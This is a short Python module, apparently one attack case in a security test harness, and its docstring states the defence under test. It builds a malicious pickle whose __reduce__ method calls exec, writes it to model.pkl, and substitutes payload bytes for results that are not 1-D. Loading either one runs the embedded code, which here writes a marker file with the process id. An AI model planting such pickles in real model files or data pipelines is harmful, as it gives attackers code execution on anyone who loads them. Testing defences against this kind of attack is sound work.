"""Leaves a pickle that runs a program in whoever loads it.

ids: 9
effect: host
defence: An artefact is raw numbers of a declared length; nothing is unpickled.
"""

import pickle

CODE = "open('owned', 'w').write(str(__import__('os').getpid()))"


class Payload:
    def __reduce__(self):
        return exec, (CODE,)


def attack(world):
    with open("model.pkl", "wb") as file:
        pickle.dump(Payload(), file)


def twist(result, world):
    return result if hasattr(result, "ndim") and result.ndim == 1 else pickle.dumps(Payload())
